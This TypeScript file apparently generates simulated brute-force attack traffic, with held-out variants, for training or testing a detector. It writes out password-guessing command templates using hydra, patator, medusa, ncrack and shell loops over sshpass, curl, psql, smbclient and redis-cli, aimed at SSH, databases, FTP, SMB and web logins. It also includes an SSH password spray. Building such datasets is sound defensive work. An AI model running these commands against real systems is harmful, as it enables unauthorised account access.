import { attackerBeside, passwordFile, tcp } from './plan.ts'
import type { AttackPlan, Variant } from './plan.ts'
import type { Pod } from '../pod.ts'
import type { World } from '../world.ts'
import { APP_PORT } from '../world.ts'

function guess (tool: string, attacker: Pod, victims: readonly Pod[], port: number, command: string, seconds: number): AttackPlan {
  return { class: 'BRUTE_FORCE', tool, attackers: [attacker], command, victims: victims.map((pod) => pod.address), legs: victims.map((pod) => tcp(attacker, pod, [port])), seconds }
}

/** A variant whose tool takes a victim, a file of passwords and a number of threads. */
const variant = (name: string, heldOut: boolean, victims: (world: World) => Pod[], port: number,
  command: (options: { victim: string, file: string, threads: number, world: World }) => string): Variant => ({
  name,
  heldOut,
  draw: (world) => {
    const { random } = world
    const victim = random.pick(victims(world))
    const attacker = attackerBeside(world, victim)
    const file = passwordFile(random, attacker, random.magnitude(40, 2000))
    return guess(name, attacker, [victim], port, command({ victim: victim.address, file, threads: random.magnitude(1, 16), world }), random.integer(10, 40))
  },
})

const one = (role: string) => (world: World) => [world.pod(role)]
const apps = (world: World) => world.apps
const shells = (world: World) => world.shells

/** Guesses one after the other with ordinary clients, `gap` seconds apart: what no thread count shows. */
const loop = (file: string, body: string, gap: number) => `while read -r word; do ${body}; sleep ${gap}; done < ${file}`
const gap = (world: World) => world.random.magnitude(1, 40) / 10

export const BRUTE_FORCES: readonly Variant[] = [
  variant('hydra http-post-form', false, apps, APP_PORT, ({ victim, file, threads }) => `hydra -I -t ${threads} -l alice -P ${file} -s ${APP_PORT} ${victim} http-post-form '/login:user=^USER^&pass=^PASS^:F=incorrect'`),
  variant('hydra http-get', false, apps, APP_PORT, ({ victim, file, threads }) => `hydra -I -t ${threads} -l bob -P ${file} -s ${APP_PORT} ${victim} http-get /basic`),
  variant('hydra postgres', false, one('database'), 5432, ({ victim, file, threads }) => `hydra -I -t ${threads} -l postgres -P ${file} postgres://${victim}`),
  variant('hydra redis', false, one('cache'), 6379, ({ victim, file, threads }) => `hydra -I -t ${threads} -P ${file} redis://${victim}`),
  variant('hydra ftp', false, (world) => [world.pod('files'), world.pod('outside')], 21, ({ victim, file, threads }) => `hydra -I -t ${threads} -l bob -P ${file} ftp://${victim}`),
  variant('hydra ssh', false, shells, 22, ({ victim, file, threads }) => `hydra -I -t ${Math.min(threads, 8)} -l ops -P ${file} ssh://${victim}`),
  variant('patator ssh_login', false, shells, 22, ({ victim, file, threads, world }) => `patator ssh_login host=${victim} user=alice password=FILE0 0=${file} -t ${threads} ${world.random.chance(0.4) ? `--rate-limit=${world.random.integer(1, 3)}` : ''}`),
  variant('patator pgsql_login', false, one('database'), 5432, ({ victim, file, threads, world }) => `patator pgsql_login host=${victim} user=app password=FILE0 0=${file} -t ${threads} ${world.random.chance(0.4) ? `--rate-limit=${world.random.integer(1, 2)}` : ''}`),
  variant('curl login loop', false, apps, APP_PORT, ({ victim, file, world }) => loop(file, `curl -s -o /dev/null -d "user=alice&pass=$word" http://${victim}:${APP_PORT}/login`, gap(world) / 2)),
  variant('sshpass loop', false, shells, 22, ({ victim, file, world }) => loop(file, `sshpass -p "$word" ssh -n -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 alice@${victim} true 2>/dev/null`, gap(world))),
  variant('psql loop', false, one('database'), 5432, ({ victim, file, world }) => loop(file, `PGPASSWORD="$word" psql -q -h ${victim} -U postgres -c 'select 1' postgres </dev/null >/dev/null 2>&1`, gap(world) / 4)),
  variant('smbclient loop', false, one('files'), 445, ({ victim, file, world }) => loop(file, `smbclient //${victim}/data -U "bob%$word" -c ls </dev/null >/dev/null 2>&1`, gap(world) / 4)),
  {
    name: 'hydra ssh spray',
    heldOut: false,
    draw: (world) => {
      const victims = world.random.sample(world.shells, world.random.integer(2, 5))
      const attacker = attackerBeside(world, ...victims)
      const file = passwordFile(world.random, attacker, world.random.magnitude(10, 100))
      const commands = victims.map((pod) => `hydra -I -t 2 -L <(printf 'alice\\nbob\\nops\\nroot\\n') -P ${file} ssh://${pod.address} & `)
      return guess('hydra ssh spray', attacker, victims, 22, `${commands.join('')} wait`, 35)
    },
  },
  variant('medusa ssh', true, shells, 22, ({ victim, file, threads }) => `medusa -h ${victim} -u alice -P ${file} -M ssh -t ${Math.min(8, threads)}`),
  variant('medusa ftp', true, one('files'), 21, ({ victim, file, threads }) => `medusa -h ${victim} -u bob -P ${file} -M ftp -t ${threads}`),
  variant('medusa postgres', true, one('database'), 5432, ({ victim, file, threads }) => `medusa -h ${victim} -u app -P ${file} -M postgres -t ${threads}`),
  variant('ncrack ssh', true, shells, 22, ({ victim, file }) => `ncrack --user alice -P ${file} ssh://${victim}`),
  variant('redis-cli loop', true, one('cache'), 6379, ({ victim, file, world }) => loop(file, `redis-cli -h ${victim} -a "$word" ping </dev/null >/dev/null 2>&1`, gap(world) / 8)),
]
